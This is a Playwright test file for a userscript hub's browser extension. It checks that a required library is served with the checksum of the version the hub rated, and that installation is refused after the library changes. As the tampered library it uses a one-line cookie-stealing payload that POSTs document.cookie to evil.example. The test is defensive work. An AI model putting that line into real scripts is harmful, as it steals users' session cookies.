import { createHash } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, type Page, test } from "@playwright/test";
import { createFullCheckStore } from "@scriptorium/supabase/canary-worker/full-check/full-check-store";
import { loadLibraries } from "@scriptorium/supabase/canary-worker/full-check/load-libraries";
import {
	type MappedNetwork,
	openMappedNetwork,
} from "@scriptorium/supabase/canary-worker/full-check/mapped-network.test-support";
import { runFullCheck } from "@scriptorium/supabase/canary-worker/full-check/run-full-check";
import { workOffChecks } from "@scriptorium/supabase/canary-worker/full-check/work-off-checks";
import { buildExtension, openExtensionBrowser } from "../support/extension.ts";
import { hubOrigin, publishableKey, signIn, watchForErrors } from "../support/hub.ts";
import { type OwnHub, startOwnHub } from "../support/own-hub.ts";
import { saveScriptAs } from "../support/save-script.ts";
import { accessToken } from "../support/stored-rows.ts";

const PLACE = "cdn.example/tools.js";
const ADDRESS = `http://${PLACE}`;
const HARMLESS = "var tools = { mark(node) { node.remove(); } };";
const STEALS = "fetch('https://evil.example/', { method: 'POST', body: document.cookie });";
const CODE = `// ==UserScript==
// @name Needs tools
// @namespace https://journey.example
// @match https://shop.example/*
// @require ${ADDRESS}
// ==/UserScript==
tools.mark(document.querySelector(".ad"));
`;

let hub: OwnHub;
let network: MappedNetwork;
let folder: string;
test.beforeAll(async () => {
	[hub, network, folder] = await Promise.all([
		startOwnHub(),
		openMappedNetwork(),
		mkdtemp(join(tmpdir(), "scriptorium-rated-libraries-")),
	]);
	await buildExtension(hub.origin, join(folder, "built"));
});
test.afterAll(async () => {
	await hub?.stop();
	await network?.close();
	await rm(folder, { recursive: true, force: true });
});

/** The work of the canary's worker, on a network of the test. */
async function workAsWorker(): Promise<unknown> {
	const { signal } = new AbortController();
	return workOffChecks({
		store: createFullCheckStore({ url: hub.origin, serviceRoleKey: hub.backend.serviceRoleKey }),
		load: (code) => loadLibraries(code, { ...network, signal }),
		run: runFullCheck,
		signal,
	});
}

/** The edge function's rating, as the editor asks for it. */
async function rate(page: Page, versionId: string): Promise<void> {
	const answer = await page.request.post(`${hubOrigin()}/functions/v1/analyze-security`, {
		headers: { apikey: await publishableKey(page), Authorization: `Bearer ${await accessToken(page)}` },
		data: { version_id: versionId },
	});
	expect(answer.status(), await answer.text()).toBe(200);
}

test("a library is rated by the worker, served with the checksum of what was rated, and refused when it changed", async ({
	page,
}) => {
	const errors = watchForErrors(page);
	network.files.set(PLACE, HARMLESS);
	await signIn(page, "Arthur Author");
	const saved = await saveScriptAs(page, { title: "Needs tools", code: CODE });
	await rate(page, saved.version_id);
	const analysis = page.getByRole("region", { name: "Security Analysis" });
	await page.goto(`${hub.origin}/bookmarklet/${saved.id}`);
	await expect(analysis.getByText("Not checked: its file has not been loaded for this check")).toBeVisible();

	expect(await workAsWorker()).toEqual({ ok: true, value: { done: 1, fuller: 1 } });
	await page.reload();
	await expect(analysis.getByRole("region", { name: "Libraries" })).toContainText(`${ADDRESS}Checked with the script`);
	await expect(analysis.getByText(/code that was not checked/)).toHaveCount(0);

	const source = `${hub.origin}/scripts/${saved.id}/needs-tools.user.js`;
	const served = await (await page.request.get(source)).text();
	const sha256 = createHash("sha256").update(HARMLESS).digest("hex");
	expect(served).toContain(`// @require ${ADDRESS}#rated,sha256=${sha256}\n`);

	const browser = await openExtensionBrowser({
		extension: join(folder, "built"),
		hosts: { "cdn.example": network.port },
	});
	try {
		await browser.allowUserScripts();
		network.files.set(PLACE, STEALS);
		const confirmation = await browser.context.newPage();
		await confirmation.goto(browser.pageUrl(`confirm-install.html?url=${encodeURIComponent(source)}`));
		await expect(confirmation.getByText(/^Not checked: /).first()).toBeVisible();
		await confirmation.getByRole("button", { name: "Install", exact: true }).click();
		const alert = confirmation.getByRole("alert");
		await expect(alert).toContainText(`${ADDRESS} is not the file that the hub has checked`);
		await expect(alert).toContainText("The hub looks at it again within three days");
		await expect(alert).toContainText("Nothing was installed");

		network.files.set(PLACE, HARMLESS);
		await confirmation.reload();
		await expect(confirmation.getByText("Checked with the script")).toBeVisible();
		await confirmation.getByRole("button", { name: "Install", exact: true }).click();
		await expect(confirmation.getByRole("heading", { name: "Needs tools is installed" })).toBeVisible();
	} finally {
		await browser.close();
	}
	expect(errors).toEqual([]);
});
